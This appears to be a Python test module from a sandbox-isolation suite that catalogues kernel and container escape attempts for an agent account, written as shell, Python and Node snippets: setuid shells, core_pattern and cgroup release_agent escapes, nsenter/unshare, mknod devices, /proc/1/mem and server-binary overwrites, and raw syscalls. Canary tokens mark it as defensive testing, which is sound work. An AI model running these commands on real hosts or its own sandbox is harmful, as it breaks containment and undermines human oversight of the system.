"""Attacks on the kernel and on what the host shares with a sandbox through it."""

from experiments.isolation_attacks.attack import Attack, Scene, c, command, node, python

_KIND = "kernel"
_SYSCTLS = (
  "kernel/core_pattern kernel/modprobe kernel/hostname kernel/printk_ratelimit_burst kernel/panic "
  "kernel/randomize_va_space vm/swappiness vm/overcommit_memory fs/suid_dumpable net/ipv4/ip_forward "
  "kernel/hotplug kernel/cad_pid kernel/ns_last_pid kernel/shmmax fs/mqueue/queues_max"
)
_SETUID = (
  "cp /bin/bash /tmp/su; cp /bin/bash /work/su; chown 0:0 /tmp/su /work/su; "
  "chmod 6755 /tmp/su /work/su; cp /bin/bash /su; chmod 6755 /su; ls -ln /tmp/su /work/su"
)


def _setuid(scene: Scene) -> None:
  """Root leaves a setuid shell, the agent starts it."""
  scene.results.append(scene.sandbox.verify(_SETUID))
  for shell in ("/tmp/su", "/work/su", "/su"):
    result = scene.sandbox.run(
      f"[ -x {shell} ] && {shell} -p -c 'id -u; id -ru; grep CapEff /proc/self/status'"
    )
    scene.results.append(result)
    if result.output.startswith("0"):
      scene.claim("a setuid program gave the agent root")


def _file_capabilities(scene: Scene) -> None:
  hexed = "0100000202000000000000000000000000000000"[:40]
  scene.sandbox.verify(
    f"cp /tmp/payload /tmp/cap; setfattr -n security.capability -v 0x{hexed} /tmp/cap || "
    "python3 -c \"import os; os.setxattr('/tmp/cap', 'security.capability', bytes.fromhex("
    f"'010000020000200000000000000020000000000000'))\"; chmod 755 /tmp/cap"
  )
  scene.results.append(scene.sandbox.run("/tmp/cap privilege; grep -h Cap /proc/self/status"))
  scene.run("sleep 0")


ATTACKS: list[Attack] = [
  c("ptrace, process_vm_writev, /proc/1/mem, pidfd_getfd of pid 1", _KIND, "meddle", quick=True),
  c("limits, priority, scheduler and OOM score of pid 1", _KIND, "bounds", quick=True),
  c("mounts by the old and the new calls", _KIND, "mounts", quick=True),
  command("mounts by tools", _KIND, "shell",
          "mount -t tmpfs x /tmp; mount -o remount,rw /; mount -o remount,rw /proc/sys; "
          "mount --bind / /mnt; umount -l /proc; umount /tmp; mount -t proc p /work; cat /proc/mounts | wc -l"),
  c("device nodes: kernel log, memory, disks", _KIND, "devices {token} {disk}", quick=True),
  command("device nodes by mknod", _KIND, "shell",
          "for d in . /tmp /dev /dev/shm; do mknod $d/k c 1 11 && echo {token} > $d/k; "
          "mknod $d/b b 7 {disk} && (echo x > $d/b; cat $d/b); done; ls -l /dev"),
  c("user namespaces and other namespaces", _KIND, "users", quick=True),
  command("nsenter and unshare", _KIND, "shell",
          "nsenter -t 1 -a sh -c 'id; cat {canary}'; unshare -Ur id; unshare -m id; unshare -p id; unshare -n id"),
  c("bpf, io_uring, userfaultfd, perf, keyrings, modules, kexec, reboot", _KIND, "rare", quick=True),
  command("kernel modules by tools", _KIND, "shell",
          "insmod /bin/bash; modprobe loop; rmmod loop; cat /proc/kallsyms | grep -v '^0000000000000000' | head -n 2"),
  c("clock and host name", _KIND, "clocks", quick=True),
  command("clock and host name by tools", _KIND, "shell",
          "date -s '2001-01-01'; hwclock -w; hostname rome-canary; domainname rome-canary; hostname"),
  c("the host's file by its handle (shocker)", _KIND,
    "handle {handle} / /tmp /work /proc /run/rocklet /run/rome /dev/shm /etc", quick=True),
  command("/proc/sys", _KIND, "shell",
          f"for f in {_SYSCTLS}; do v=$(cat /proc/sys/$f); case $f in *burst|*panic) v=$((v + 1));; "
          "*pattern) v='|/bin/sh -c \"echo {token} > {canary}\"';; *hostname) v=rome-canary;; esac; "
          "echo \"$v\" > /proc/sys/$f; done", quick=True),
  command("core_pattern and a crash", _KIND, "shell",
          "ulimit -c unlimited; echo '|/bin/sh -c \"echo {token} > {canary}\"' > /proc/sys/kernel/core_pattern; "
          "sh -c 'kill -SEGV $$'; ls -la core* /core*"),
  command("/proc/sysrq-trigger and other controls in /proc", _KIND, "shell",
          "echo h > /proc/sysrq-trigger; echo 1 > /proc/irq/default_smp_affinity; "
          "echo x > /proc/mtrr; echo x > /proc/scsi/scsi; echo x > /proc/acpi/wakeup; "
          "echo x > /proc/timer_stats; cat /proc/kcore | head -c 10; cat /proc/kmsg | head -c 10 & sleep 0.3"),
  command("/sys", _KIND, "shell",
          "for f in $(find /sys -type f -perm -u+w -maxdepth 6 2>/dev/null | head -n 300); do "
          "(echo 1 > $f) 2>&1; done | sort | uniq -c | sort -rn | sed 's/.*: //' | sort | uniq -c | tail -n 3; "
          "echo {token} > /sys/kernel/uevent_helper; echo mem > /sys/power/state"),
  command("cgroup release_agent", _KIND, "shell",
          "mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; "
          "for d in /tmp/cg /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/x; echo 1 > $d/x/notify_on_release; "
          "echo /work/cmd > $d/release_agent; echo 1 > $d/cgroup.procs; sh -c \"echo \\$\\$ > $d/x/cgroup.procs\"; "
          "done; echo '#!/bin/sh\necho {token} > {canary}' > /work/cmd; chmod 755 /work/cmd", quick=True),
  command("limits of one's own cgroup", _KIND, "shell",
          "for d in $(find /sys/fs/cgroup -maxdepth 3 -type d); do echo -1 > $d/memory.limit_in_bytes; "
          "echo max > $d/memory.max; echo max > $d/pids.max; echo 1 > $d/cgroup.kill; echo $$ > $d/cgroup.procs; done"),
  Attack("setuid shell left by root", _KIND, "shell", _setuid, users=("agent",), quick=True),
  Attack("file capabilities left by root", _KIND, "shell", _file_capabilities, users=("agent",)),
  c("credentials, capabilities, no_new_privs, seccomp", _KIND, "privilege", quick=True),
  c("chroot breakouts: fchdir, /proc/self/root, /proc/1/root, open directories", _KIND, "breakout", quick=True),
  command("/proc/*/root, cwd and fd as paths out", _KIND, "shell",
          "for p in /proc/[0-9]*; do for l in root cwd; do cat $p/$l{canary}; ls $p/$l/run/rome; "
          "cat $p/$l/../../../..{canary}; done; ls -l $p/fd | grep -v pipe; done; cat {canary} /..{canary}"),
  c("the server's binary (/proc/1/exe, /run/rocklet)", _KIND, "overwrite", quick=True),
  command("the server's binary, by tools", _KIND, "shell",
          "echo x > /run/rocklet; cp /bin/bash /run/rocklet; rm -f /run/rocklet; mv /run/rocklet /tmp/r; "
          "dd if=/dev/zero of=/proc/1/exe bs=1 count=1; dd if=/dev/zero of=/proc/1/mem count=1; chmod 777 /run/rocklet"),
  command("what /proc tells of pid 1", _KIND, "shell",
          "cd /proc/1; cat environ maps smaps auxv stack syscall io 2>&1 | head -n 20; ls -l fd root exe cwd ns; "
          "cat /proc/1/fd/* | head -c 100"),
  c("terminal injection (TIOCSTI) and line disciplines", _KIND, "terminal"),
  python("system calls through ctypes", _KIND,
         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nimport os\n"
         "for n, a in ((101, (16, 1, 0, 0)), (310, (1, 0, 0, 0, 0, 0)), (165, (b'x', b'/tmp', b'tmpfs', 0, 0)),"
         " (272, (0x10000000,)), (308, (0, 0)), (161, (b'/tmp',)), (133, (b'/tmp/n', 0o20666, 267)), (175, (b'x', 1, b''))):\n"
         "  r = libc.syscall(n, *a)\n"
         "  print('GOT syscall %d' % n if r >= 0 and not (n == 310 and r == 0) else os.strerror(ctypes.get_errno()))\n"
         "for p in ('/proc/1/mem', '/proc/sys/kernel/core_pattern', '/dev/mem', '{canary}'):\n"
         "  try:\n    open(p, 'r+b'); print('GOT', p)\n  except OSError as e: print(e)"),
  node("files of pid 1 and of the host", _KIND,
       "const fs = require('fs');\nfor (const p of ['/proc/1/mem', '/proc/1/environ', '/proc/1/root/etc/passwd',"
       " '/proc/sys/kernel/core_pattern', '/dev/mem', '/proc/1/root{canary}', '{canary}', '/run/rome/sock'])\n"
       "  for (const m of ['r', 'r+', 'w']) { if (p.startsWith('/run') && m == 'w') continue;"
       " try { const f = fs.openSync(p, m); if (!(m == 'r' && p.includes('core_pattern')) && !(p === '{canary}' && m == 'w'))"
       " { fs.readSync(f, Buffer.alloc(1)); console.log('GOT ' + p + ' ' + m); } } catch (e) { console.log(e.code); } }\n"
       "try { process.kill(1, 9); process.setuid(0); } catch (e) { console.log(e.code); }"),
]  # fmt: skip
